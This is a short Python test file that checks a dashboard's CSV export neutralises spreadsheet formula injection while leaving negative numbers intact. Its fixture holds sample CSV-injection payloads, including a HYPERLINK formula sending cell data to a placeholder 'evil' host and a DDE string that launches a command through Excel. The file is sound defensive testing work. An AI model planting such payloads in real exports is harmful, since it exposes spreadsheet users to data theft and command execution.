"""Findings of the attacker's review of issues 14 and 15 (one test per finding)."""

from __future__ import annotations

import csv
import io

import polars as pl


def test_a_csv_download_never_hands_excel_a_formula_from_outside():
    """User claims (the access log), file names (Datakvalitet) and other outside text reach
    CSV downloads: a cell starting with = + - @ is run by Excel (CSV injection). Numbers,
    negative ones too, stay numbers."""
    from dashboard import ui

    frame = pl.DataFrame(
        {
            "Bruker": ['=HYPERLINK("http://evil/"&A1;"x")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "a@test.no"],
            "Fil": ["-2+3.csv", "\t=1", "ok.csv", ""],
            "Tall": ["-3", "-1,5", "1 234", "-12 %"],
        }
    )
    text = ui.csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    cells = [cell for row in rows for cell in row[:2] if cell]
    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t")) for c in cells), cells
    assert [row[2] for row in rows] == ["-3", "-1,5", "1 234", "-12 %"]
